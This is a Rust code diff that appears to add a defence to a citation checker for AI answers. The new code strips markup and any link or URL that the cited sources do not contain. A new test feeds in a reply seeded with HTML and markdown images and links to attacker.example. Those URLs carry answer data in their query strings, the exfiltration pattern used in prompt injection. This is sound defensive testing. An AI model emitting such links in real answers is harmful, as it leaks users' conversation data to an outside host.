@@ -8,6 +8,7 @@
 use crate::attribution::credit;
 use crate::citations::{check_citations, CheckedCitations};
 use crate::gate::is_refusal;
+use crate::markup::without_unsourced_links;
 use shiori_analysis::text::sentence_ranges;
 use shiori_core::{Citation, Source};
 
@@ -102,10 +103,15 @@ impl<'s> Checker<'s> {
             }
             return String::new();
         }
-        let Some(checked) = self.cite(sentence) else {
+        let Some(mut checked) = self.cite(sentence) else {
             self.dropped += 1;
             return String::new();
         };
+        checked.answer = self.without_unsourced_links(&checked);
+        if !has_words(&check_citations(&checked.answer, &[]).answer) {
+            self.dropped += 1;
+            return String::new();
+        }
         if let Some(missing) = self.unsupported(&checked) {
             self.stopped = Some(Stop::Unsupported(missing));
             return String::new();
@@ -139,6 +145,22 @@ impl<'s> Checker<'s> {
             checked = check_citations(&format!("{} [{number}]", checked.answer), self.sources);
         }
         Some(checked)
+    }
+
+    /// The checked sentence without markup, and without links and URLs its cited sources do
+    /// not hold.
+    fn without_unsourced_links(&self, checked: &CheckedCitations) -> String {
+        let cited: Vec<&Source> = checked
+            .citations
+            .iter()
+            .map(|citation| &self.sources[citation.number - 1])
+            .collect();
+        let sourced = |url: &str| {
+            cited
+                .iter()
+                .any(|source| source.text.contains(url) || source.source.contains(url))
+        };
+        without_unsourced_links(&checked.answer, &sourced)
     }
 
     /// The first number or name of the checked sentence that neither its cited sources nor the
@@ -367,6 +389,30 @@ mod tests {
         );
         let whole = Checker::read_whole("What do the plans give?", &sources, reply);
         assert_eq!(whole.kept, checker.kept);
+    }
+
+    #[test]
+    fn injected_images_and_links_never_reach_a_streamed_or_whole_answer() {
+        let sources = sources();
+        let reply = "Business costs $29 [1]. <img src=\"https://attacker.example/c.png?d=29\"> \
+                     ![x](https://attacker.example/p?q=business) Starter keys get 100 requests \
+                     per minute [2]. Read [more](https://attacker.example/more) there [2].";
+        let mut checker = Checker::new("What do the plans give?", &sources);
+        let mut shown = String::new();
+        for piece in reply.split_inclusive(' ') {
+            shown.push_str(&checker.push(piece));
+        }
+        shown.push_str(&checker.finish());
+        assert!(
+            !shown.contains("attacker") && !shown.contains('<'),
+            "{shown}"
+        );
+        assert!(
+            shown.contains("Starter keys get 100 requests per minute [2]"),
+            "{shown}"
+        );
+        let whole = Checker::read_whole("What do the plans give?", &sources, reply);
+        assert_eq!(whole.kept, shown);
     }
 
     #[test]
